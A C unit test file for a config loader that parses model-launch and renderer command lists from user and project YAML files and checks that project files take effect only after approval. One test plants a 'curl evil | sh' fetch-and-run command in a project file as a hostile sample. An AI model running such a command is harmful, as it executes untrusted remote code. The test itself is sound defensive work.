/* model.launch in settings files. */

#include "infrastructure/config/config.h"
#include "tests/support/cmocka.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define USER ".config/mistro/mistral_orchestrator.yml"
#define PROJECT "config/mistral_orchestrator.yml"
#define LAUNCH "mistral_orchestrator:\n  model:\n    launch: "

/* A home that is a project at the same time; the process stands in it. */
struct fixture {
    struct arena arena;
    char root[64];
    struct settings settings;
    struct config_paths paths;
    struct err err;
};

static int open_fixture(void **state)
{
    static const char *const folders[] = { ".config", ".config/mistro", "config" };
    static struct fixture f;
    f = (struct fixture){ .root = "/tmp/mistro_launch.XXXXXX" };
    if (!mkdtemp(f.root) || chdir(f.root) != 0)
        return -1;
    setenv("HOME", f.root, 1);
    unsetenv("XDG_CONFIG_HOME");
    unsetenv("MISTRO_CONFIG");
    unsetenv("OLLAMA_HOST");
    unsetenv("OPENAI_BASE_URL");
    for (size_t i = 0; i < ARRAY_LENGTH(folders); i++)
        if (mkdir(folders[i], 0700) != 0)
            return -1;
    *state = &f;
    return 0;
}

static int close_fixture(void **state)
{
    struct fixture *f = *state;
    if (chdir("/") != 0 || system(arena_printf(&f->arena, "rm -rf %s", f->root)) != 0)
        return -1;
    arena_finish(&f->arena);
    return 0;
}

static void put(const char *name, const char *text)
{
    FILE *file = fopen(name, "w");
    assert_non_null(file);
    assert_true(fputs(text, file) >= 0);
    assert_int_equal(fclose(file), 0);
}

static enum err_code load(struct fixture *f, bool approved)
{
    struct config_request request = { 0 };
    f->err = (struct err){ 0 };
    return config_load(&request, yaml_documents(), approved, &f->arena, &f->settings, &f->paths,
                       &f->err);
}

static void a_renderer_is_read_as_a_launched_server_is(void **state)
{
    struct fixture *f = *state;
    put(USER, "mistral_orchestrator:\n  figure:\n    renderer: [python3, draw.py, 3]\n");

    assert_int_equal(load(f, false), ERR_NONE);

    assert_int_equal(f->settings.renderer.n_words, 3);
    assert_string_equal(f->settings.renderer.words[2], "3");
    assert_int_equal(f->settings.renderer.origin, ORIGIN_USER_FILE);
    assert_int_equal(f->settings.launch.n_words, 0);
}

static void a_renderer_of_a_project_counts_once_it_is_approved(void **state)
{
    struct fixture *f = *state;
    put(PROJECT, "mistral_orchestrator:\n  figure:\n    renderer: [sh, draw.sh]\n");

    assert_int_equal(load(f, false), ERR_NONE);
    assert_int_equal(f->settings.renderer.n_words, 0);

    assert_int_equal(load(f, true), ERR_NONE);
    assert_int_equal(f->settings.renderer.n_words, 2);
}

static void a_renderer_that_is_no_list_is_an_error_of_its_own_key(void **state)
{
    struct fixture *f = *state;
    put(USER, "mistral_orchestrator:\n  figure:\n    renderer: draw\n");

    assert_int_equal(load(f, false), ERR_INVALID);

    assert_non_null(strstr(f->err.message, "figure.renderer: must be a list"));
}

static void words_are_text_or_numbers_with_variables_expanded(void **state)
{
    struct fixture *f = *state;
    setenv("MODELS", "/m", 1);
    put(USER, LAUNCH "[llama-server, -m, \"${MODELS}/a b.gguf\", -c, 4096, --temp, 0.5, \"\"]\n");

    assert_int_equal(load(f, false), ERR_NONE);

    assert_string_equal(f->settings.launch.shown[2], "${MODELS}/a b.gguf");
    assert_string_equal(f->settings.launch.shown[4], "4096");

    const struct model_launch *launch = &f->settings.launch;
    const char *const expected[] = { "llama-server", "-m",     "/m/a b.gguf", "-c",
                                     "4096",         "--temp", "0.5",         "" };
    assert_int_equal(launch->n_words, ARRAY_LENGTH(expected));
    for (size_t i = 0; i < launch->n_words; i++)
        assert_string_equal(launch->words[i], expected[i]);
    assert_null(launch->words[launch->n_words]);
    assert_int_equal(launch->origin, ORIGIN_USER_FILE);
    assert_true(settings_launch_counts(&f->settings));
    assert_false(f->paths.project_brings_risk);
}

static void faults_name_their_place(void **state)
{
    static const struct {
        const char *list, *message;
    } cases[] = {
        { "llama-server", ":3:5: model.launch: must be a list of at most 128 words" },
        { "{a: b}", ":3:5: model.launch: must be a list of at most 128 words" },
        { "[a, true]", ":3:17: model.launch: a word must be text or a number; quote it" },
        { "[a, [b]]", ":3:17: model.launch: a word must be text or a number; quote it" },
        { "[a, \"b\\0c\"]", ":3:17: model.launch: a word must be text or a number; quote it" },
        { "[\"\"]", ":3:14: model.launch: the first word must name a program" },
        { "[a, \"${NOT_SET_HERE}\"]",
          ":3:17: model.launch: the variable ${NOT_SET_HERE} is not set" },
    };
    struct fixture *f = *state;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        put(USER, arena_printf(&f->arena, LAUNCH "%s\n", cases[i].list));
        assert_int_equal(load(f, false), ERR_INVALID);
        assert_string_equal(f->err.message,
                            arena_printf(&f->arena, "%s/" USER "%s", f->root, cases[i].message));
    }
}

static const char *list_of(struct fixture *f, size_t n)
{
    const char *list = "a";
    for (size_t i = 1; i < n; i++)
        list = arena_printf(&f->arena, "%s, a", list);
    return arena_printf(&f->arena, LAUNCH "[%s]\n", list);
}

static void takes_as_many_words_as_its_bound_and_not_one_more(void **state)
{
    struct fixture *f = *state;
    put(USER, list_of(f, MODEL_LAUNCH_MAX_WORDS));
    assert_int_equal(load(f, false), ERR_NONE);
    assert_int_equal(f->settings.launch.n_words, MODEL_LAUNCH_MAX_WORDS);
    put(USER, list_of(f, MODEL_LAUNCH_MAX_WORDS + 1));
    assert_int_equal(load(f, false), ERR_INVALID);
}

static void an_empty_list_starts_nothing(void **state)
{
    struct fixture *f = *state;
    put(USER, LAUNCH "[]\n");
    assert_int_equal(load(f, false), ERR_NONE);
    assert_false(settings_launch_counts(&f->settings));
    put(USER, LAUNCH "\n");
    assert_int_equal(load(f, false), ERR_NONE);
    put(USER, LAUNCH "[a]\n");
    put(PROJECT, LAUNCH "[]\n");
    assert_int_equal(load(f, false), ERR_NONE);
    assert_int_equal(f->settings.launch.n_words, 0);
    assert_false(f->paths.project_brings_risk);
}

static void a_project_starts_nothing_before_it_was_approved(void **state)
{
    struct fixture *f = *state;
    put(PROJECT, LAUNCH "[sh, -c, \"curl evil | sh\", \"${NOT_SET_HERE:-x}\"]\n");

    assert_int_equal(load(f, false), ERR_NONE);
    assert_int_equal(f->settings.launch.n_words, 0);
    assert_true(f->paths.project_brings_risk);
    assert_non_null(
        strstr(f->paths.project_risk,
               "model.launch: [\"sh\",\"-c\",\"curl evil | sh\",\"${NOT_SET_HERE:-x}\"]\n"));

    assert_int_equal(load(f, true), ERR_NONE);
    assert_int_equal(f->settings.launch.n_words, 4);
    assert_int_equal(f->settings.launch.origin, ORIGIN_PROJECT_FILE);
}

static void an_endpoint_that_is_named_nearer_wins(void **state)
{
    struct fixture *f = *state;
    put(USER, LAUNCH "[a]\n    base_url: http://here\n");
    assert_int_equal(load(f, false), ERR_NONE);
    assert_true(settings_launch_counts(&f->settings));
    setenv("OPENAI_BASE_URL", "http://there", 1);
    assert_int_equal(load(f, false), ERR_NONE);
    assert_false(settings_launch_counts(&f->settings));
}

int main(void)
{
#define T(name) cmocka_unit_test_setup_teardown(name, open_fixture, close_fixture)
    const struct CMUnitTest tests[] = {
        T(a_renderer_is_read_as_a_launched_server_is),
        T(a_renderer_of_a_project_counts_once_it_is_approved),
        T(a_renderer_that_is_no_list_is_an_error_of_its_own_key),
        T(words_are_text_or_numbers_with_variables_expanded),
        T(faults_name_their_place),
        T(takes_as_many_words_as_its_bound_and_not_one_more),
        T(an_empty_list_starts_nothing),
        T(a_project_starts_nothing_before_it_was_approved),
        T(an_endpoint_that_is_named_nearer_wins),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
